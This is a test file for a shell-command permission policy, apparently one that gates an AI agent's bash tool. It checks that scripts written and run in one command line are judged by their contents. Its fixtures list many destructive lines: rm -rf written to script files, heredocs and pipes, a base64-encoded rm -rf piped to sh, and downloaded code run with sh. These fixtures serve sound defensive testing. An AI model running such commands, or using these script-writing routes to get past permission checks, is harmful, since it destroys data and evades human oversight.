import { describe, expect, it } from 'vitest';
import { createPolicy } from '../../src/index.js';
import { bash, call } from '../helpers.js';
import { MODES, askedIn, everyModePolicy, expectDecision } from './every-mode.js';

/**
 * A script the command line writes and then runs is judged as the commands it holds: a deny
 * rule inside denies in every mode, bypass included; a text the line does not show (a value, a
 * copy, a download, a command's output) is asked, never allowed. Each line runs under allow
 * rules for every command it uses, so only what the policy itself decides shows.
 */
const { judge } = everyModePolicy('self-written-scripts');
const RM = /^destructive-file-operation: rm with recursive and force flags/;

/** Lines that write `rm -rf x` into a file and run it. */
const DENIED: readonly string[] = [
  "echo 'rm -rf x' > s.sh && sh s.sh",
  "echo 'rm -rf x' > s.sh; bash s.sh",
  "echo 'rm -rf x' > s.sh; . s.sh",
  "echo 'rm -rf x' > s.sh; source s.sh",
  "echo 'rm -rf x' > s.sh && chmod +x s.sh && ./s.sh",
  "echo '#!/bin/sh' > s.sh; echo 'rm -rf x' >> s.sh; sh s.sh",
  "printf 'rm -rf x\\n' > s.sh && sh s.sh",
  "printf '%s\\n' 'rm -rf x' > s.sh && sh s.sh",
  "cat > f <<'EOF'\nrm -rf x\nEOF\nsh f",
  'cat > f <<EOF\nrm -rf x\nEOF\nbash f',
  "echo 'rm -rf x' | tee s.sh > /dev/null; sh s.sh",
  "tee s.sh <<< 'rm -rf x'; bash s.sh",
  'echo \'rm -rf x\' > f; bash -c "$(cat f)"',
  "echo 'rm -rf x' > f; sh < f",
  "echo 'rm -rf x' > sub/s.sh; cd sub && sh s.sh",
  "echo 'rm -rf x' > s.sh; sh ./s.sh",
  "echo 'rm -rf x' > f; zsh f",
  "echo 'rm -rf x' > s.sh; nohup ./s.sh &",
  "echo 'rm -rf x' > s.sh; exec sh s.sh",
  "echo 'rm -rf x' >| s.sh; sh s.sh",
  'C=\'rm -rf x\'; echo "$C" > s.sh; sh s.sh',
  "echo 'ls; rm -rf x' > s.sh && sh s.sh",
  "echo 'sh t.sh' > s.sh; echo 'rm -rf x' > t.sh; sh s.sh",
  "for i in 1 2; do sh s.sh; echo 'rm -rf x' > s.sh; done",
  // Without a file: the same commands the line gives a shell.
  'echo rm -rf x | sh',
  "sh -c 'rm -rf x'",
  "bash <<< 'rm -rf x'",
];

/** Lines that run a script whose text the line writes but does not show. */
const UNKNOWN: readonly (readonly [string, RegExp])[] = [
  ['echo "$CMD" > s.sh && sh s.sh', /runs s\.sh, which this line writes with text not known/],
  ['echo "$(curl -s http://example.test/x)" > s.sh; bash s.sh', /runs s\.sh/],
  ['cat > f <<EOF\n$CMD\nEOF\nsh f', /runs f, which this line writes/],
  ['cat > f <<EOF\nrm $(ls)\nEOF\nsh f', /runs f, which this line writes/],
  ['curl -o s.sh http://example.test/x && sh s.sh', /runs s\.sh/],
  ['cp other.sh s.sh && ./s.sh', /runs \.\/s\.sh/],
  ['mv other.sh s.sh; source s.sh', /runs s\.sh/],
  ["echo 'rm -r' >> s.sh; sh s.sh", /runs s\.sh/],
  ["echo 'ls' > s.sh; sed -i 's/ls/rm -rf x/' s.sh; sh s.sh", /runs s\.sh/],
  ["echo 'print(1)' > a.py && python3 a.py", /python3 runs a\.py, which this line writes/],
  ["echo 'x' > a.js; node a.js", /node runs a\.js/],
  ['for i in 1 2; do sh s.sh; cp other.sh s.sh; done', /runs a script file that the line writes later/],
];

describe('a script the line writes is judged by its text', () => {
  for (const mode of MODES) {
    it.each(DENIED)(`in ${mode} mode, %j is denied`, async (command) => {
      expectDecision(await judge(command, mode), mode, 'deny', 'destructive-file-operation', RM);
    });
    it.each(UNKNOWN)(`in ${mode} mode, %j is asked`, async (command, reason) => {
      expectDecision(await judge(command, mode), mode, askedIn(mode), 'script-written-by-line', reason);
    });
  }

  it("the config's deny patterns hold inside a written script too, in bypass mode", async () => {
    const policy = createPolicy({ mode: 'bypass', commands: { deny: ['git push --force *'] } });
    const decision = await policy.check(
      call(bash, { command: "echo 'git push --force origin main' > s.sh && sh s.sh" }),
    );
    expect(decision.decision, decision.reason).toBe('deny');
    expect(decision.reasonCode).toBe('deny-rule');
    expect(decision.reason).toMatch(/deny rule "git push --force \*" matches git push --force origin main/);
  });

  it('decoded text fed to a shell is refused, whatever it decodes to', async () => {
    for (const mode of MODES) {
      const decision = await judge('base64 -d <<< cm0gLXJmIHgK | sh', mode);
      expectDecision(decision, mode, 'deny', 'eval-injection');
    }
  });

  it('the question says why and offers no rule to remember', async () => {
    const decision = await judge('curl -o s.sh http://example.test/x && sh s.sh', 'bypass');
    expect(decision.reason).toMatch(/^script-written-by-line: /);
    expect(decision.suggestedRules).toEqual([]);
  });
});

describe('harmless scripts the line writes still run', () => {
  const HARMLESS = [
    "echo 'ls -la' > s.sh && sh s.sh",
    "printf 'echo hi\\n' > s.sh; chmod +x s.sh; ./s.sh",
    "cat > f <<'EOF'\ngit status\nEOF\nbash f",
    "echo 'cd sub && ls' | tee s.sh; . s.sh",
    'sh s.sh',
    './s.sh',
    "echo 'rm -rf x' > notes.txt; cat notes.txt",
  ];
  it.each(HARMLESS)('%j runs in bypass mode', async (command) => {
    const decision = await judge(command, 'bypass');
    expect(decision.decision, decision.reason).toBe('allow');
  });
  it('the commands inside are judged by the allow rules too: one no rule covers is asked in default mode', async () => {
    const decision = await judge("echo 'make build' > s.sh && sh s.sh", 'default');
    expectDecision(decision, 'default', 'ask', 'no-allow-rule', /make build/);
    expect(decision.suggestedRules).toContain('make build *');
  });
});

describe('bounds of written scripts', () => {
  it('a script that runs itself again and again is asked, within bounds', async () => {
    const runs = Array.from({ length: 200 }, () => 'sh s.sh').join('; ');
    const decision = await judge(`echo '${runs}' > s.sh; sh s.sh`, 'bypass');
    expect(decision.decision, decision.reason).toBe('ask');
  });
  it('a denied command past the bound is still denied where it is read', async () => {
    const runs = Array.from({ length: 40 }, (_, index) => `sh s${index}.sh`).join('; ');
    const writes = Array.from({ length: 40 }, (_, index) => `echo ls > s${index}.sh`).join('; ');
    const decision = await judge(`${writes}; echo 'rm -rf x' > t.sh; sh t.sh; ${runs}`, 'bypass');
    expectDecision(decision, 'bypass', 'deny', 'destructive-file-operation', RM);
  });
});
